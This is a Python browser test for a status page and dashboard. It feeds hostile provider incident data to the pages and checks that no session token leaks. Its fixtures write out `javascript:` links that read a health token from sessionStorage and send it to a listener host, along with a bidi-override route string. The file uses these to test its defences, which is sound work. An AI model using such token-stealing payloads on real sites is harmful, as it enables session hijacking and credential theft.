"""The status page and the dashboard in Chromium against hostile provider data: a `javascript:`
incident link from a provider's summary.json or Atom feed, clicked after a dashboard sign-in,
sends nothing anywhere; bidi overrides show as U+FFFD; no page breaks its own CSP."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from lib.jobs.health_check import check_and_alert
from lib.probes import Level, ProbeResult
from tests.alerting import only_rules, open_store, seed_episode, settings_for
from tests.conftest import SECRETS, DevServer, _clone, assert_no_secret
from tests.fakes import FakeUpstream
from tests.fakes.status import FakeStatusPage
from tests.hostile import BIDI_OR_CONTROL, HOSTILE

TOKEN = SECRETS["HEALTH_TOKEN"]
STEAL = "sessionStorage.getItem('carbot.healthToken')"
BIDI_ROUTE = "/admin\u202egnp.exe"
HONEST_LINK = "https://status.supabase.com/incidents/abc"
LISTENER_URL: list[str] = []  # where a stolen token would go (the listener fixture's URL)


@pytest.fixture(scope="module")
def listener() -> Iterator[FakeUpstream]:
    """Where a stolen token would go: it records every request it gets."""
    fake = FakeUpstream(name="listener")
    LISTENER_URL[:] = [fake.url]
    yield fake
    fake.close()


@pytest.fixture(scope="module")
def hostile_pages(listener: FakeUpstream) -> Iterator[tuple[FakeStatusPage, ...]]:
    """Vercel's summary.json and Stripe's Atom feed, each with a script URL as incident link;
    Supabase's page with a real https link; OpenAI's page with every hostile string as an
    incident's name and link."""
    statuspage, feed, honest = FakeStatusPage(), FakeStatusPage(), FakeStatusPage()
    everything = FakeStatusPage()
    now = datetime.now(UTC) - timedelta(minutes=10)
    statuspage.open_incident(
        "Re-authenticate your deployments",
        now,
        link=f"javascript:fetch('{listener.url}/summary?t='+{STEAL})",
    )
    feed.open_incident(
        f"Elevated API errors on {BIDI_ROUTE}",
        now,
        link=f"javascript:location='{listener.url}/feed?t='+{STEAL}",
    )
    honest.open_incident("Degraded builds", now, link=HONEST_LINK)
    for value in HOSTILE.values():
        everything.open_incident(value, now, link=value)
    yield statuspage, feed, honest, everything
    for fake in (statuspage, feed, honest, everything):
        fake.close()


@pytest.fixture(scope="module")
def server(
    pg, monitor_template: str, hostile_pages: tuple[FakeStatusPage, ...], tmp_path_factory: Any
) -> Iterator[DevServer]:
    """The health check read the pages into the store; an alert quotes a bidi route."""
    statuspage, feed, honest, everything = hostile_pages
    directory: Path = tmp_path_factory.mktemp("config")
    config = only_rules(
        directory,
        extra=f"""
[providers.vercel]
url = "{statuspage.summary_url}"
[providers.stripe]
kind = "feed"
url = "{feed.feed_url}"
[providers.supabase]
url = "{honest.summary_url}"
[providers.openai]
kind = "statuspage"
url = "{everything.summary_url}"
[providers.resend]
enabled = false
""",
    )
    for name in _clone(pg, monitor_template):
        url = pg.url_for(name)
        now = datetime.now(UTC)
        with open_store(url) as store:
            settings = settings_for(url, config, provider_status=True)
            results = {"database": ProbeResult(level=Level.OK, latency_ms=5)}
            summary = check_and_alert(store, settings, now, results=results)
            assert summary["providers"]["open_incidents"] == 3 + len(HOSTILE), summary
            seed_episode(
                store,
                "route_slow",
                now - timedelta(hours=1),
                announced=False,
                severity="warning",
                message=f"p95 2300 ms on {BIDI_ROUTE}",
            )
        dev = DevServer({"DATABASE_URL": url, "HEALTH_TOKEN": TOKEN})
        yield dev
        assert_no_secret(dev.close())


def watch(page: Any) -> list[str]:
    """Console errors (a CSP violation is one), page errors, and requests leaving the origin."""
    problems: list[str] = []
    page.on(
        "console",
        lambda m: (
            problems.append(m.text)
            if m.type == "error" and not m.text.startswith("Failed to load resource")
            else None
        ),
    )
    page.on("pageerror", lambda error: problems.append(f"page error: {error}"))
    return problems


def serve_with_script_links(route: Any) -> None:
    """/api/status as the server answered, each incident's link put back as its page gave it."""
    answer = route.fetch()
    body = answer.json()
    listener_url = LISTENER_URL[0]
    for provider in body.get("providers", {}).values():
        for incident in provider.get("incidents", []):
            name = incident["name"]
            if name.startswith("Re-authenticate"):
                incident["url"] = f"javascript:fetch('{listener_url}/summary?t='+{STEAL})"
            elif name.startswith("Elevated API errors"):
                incident["url"] = f"javascript:location='{listener_url}/feed?t='+{STEAL}"
            elif incident["url"] is None:
                incident["url"] = name  # every hostile string was also its incident's link
    route.fulfill(response=answer, json=body)


def test_a_script_incident_link_sends_nothing_after_a_dashboard_sign_in(
    browser: Any, server: DevServer, listener: FakeUpstream
) -> None:
    status = server.get("/api/status").json()
    links = {p: [i["url"] for i in v["incidents"]] for p, v in status["providers"].items()}
    # The server keeps https links only (lib.core.safe_text.https_link, when a page is read)...
    assert links["vercel"] == [None] and links["stripe"] == [None]
    assert links["supabase"] == [HONEST_LINK]
    assert len(links["openai"]) == len(HOSTILE) and not any(links["openai"])
    context = browser.new_context(viewport={"width": 1200, "height": 1400})
    # ...and the pages are a second line of defence: they are handed the script links as an
    # /api/status without that filter (an older deployment, a poisoned cache) would serve them.
    context.route("**/api/status*", serve_with_script_links)
    page = context.new_page()
    problems = watch(page)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        # The operator signs in on the dashboard, then follows its footer link in the same tab.
        page.goto(server.url + "/dashboard")
        page.wait_for_selector("#login:not([hidden])")
        page.fill("#token", TOKEN)
        page.press("#token", "Enter")
        page.wait_for_selector("#main:not([hidden])")
        page.wait_for_selector("#alerts .episode")
        # The dashboard shows the alert's route with the override made visible, never obeyed.
        message = page.inner_text("#alerts .episode .message")
        assert "\u202e" not in message and "/admin\ufffdgnp.exe" in message
        page.click("footer a[href='/status']")
        page.wait_for_selector("body[data-loaded=true]")
        assert page.evaluate(STEAL) == TOKEN  # the token is there to steal
        shown = page.locator("#providers li.incident")
        assert shown.count() == 3 + len(HOSTILE)
        # Every hostile name is text: no element of its making, no script ran, nothing hidden.
        assert page.locator("#providers img, #providers script, #providers iframe").count() == 0
        names = page.locator("#providers li.incident > :nth-child(2)").all_inner_texts()
        assert not any(BIDI_OR_CONTROL.search(name) for name in names), names
        assert HOSTILE["script"] in names and all(len(name) <= 500 for name in names)
        for name in page.locator("#providers li.incident strong").all():  # the honest link aside
            name.click()
        page.wait_for_timeout(300)
        assert dialogs == [] and page.url == server.url + "/status"
        for name in ("Re-authenticate your deployments", "Elevated API errors"):
            item = page.locator("#providers li.incident", has_text=name)
            item.locator("a, strong").first.click()
        page.wait_for_timeout(700)
        assert listener.requests == [], [r.path for r in listener.requests]
        assert page.url == server.url + "/status"
        # Shown as text: no link but the https one, and the feed's bidi override as U+FFFD.
        (honest,) = page.locator("#providers a").all()
        assert honest.get_attribute("href") == HONEST_LINK
        assert honest.get_attribute("rel") == "noopener noreferrer"
        assert page.locator("[href^='javascript:' i]").count() == 0
        text = page.inner_text("#providers")
        assert "/admin\ufffdgnp.exe" in text and "\u202e" not in text
        # The dashboard's provider panel shows them as text too.
        page.go_back()
        page.wait_for_selector("#providers li")
        assert [a.get_attribute("href") for a in page.locator("#providers a").all()] == [
            HONEST_LINK
        ]
        assert problems == []
    finally:
        context.close()
